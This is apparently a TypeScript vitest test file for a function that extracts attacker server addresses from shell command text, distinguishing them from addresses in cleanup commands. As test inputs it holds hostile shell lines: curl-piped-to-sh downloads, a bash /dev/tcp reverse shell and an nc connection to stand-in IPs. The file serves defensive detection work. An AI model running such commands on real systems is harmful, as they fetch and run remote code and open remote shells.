import { expect, test } from 'vitest';
import { observablesIn } from './observables.ts';

const addresses = (text: string): string[] =>
  observablesIn(text).flatMap(({ kind, value }) => (kind === 'address' ? [value] : []));

test.for([
  ['pkill -f 203.0.113.7; curl http://203.0.113.9/a.sh | sh', ['203.0.113.9']],
  ['crontab -l | grep -v 203.0.113.7 | crontab -', []],
  ['iptables -A OUTPUT -d 203.0.113.7 -j DROP && wget http://203.0.113.9/x', ['203.0.113.9']],
  ["sed -i '/203.0.113.7/d' /etc/crontab", []],
  ['curl 203.0.113.7/a | sh', ['203.0.113.7']],
  ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', ['203.0.113.7']],
  ['echo pkill; nc 203.0.113.7 4444', ['203.0.113.7']],
] as const)('in %s the servers of the attacker are %j', ([text, found]) => {
  expect(addresses(text)).toEqual(found);
});
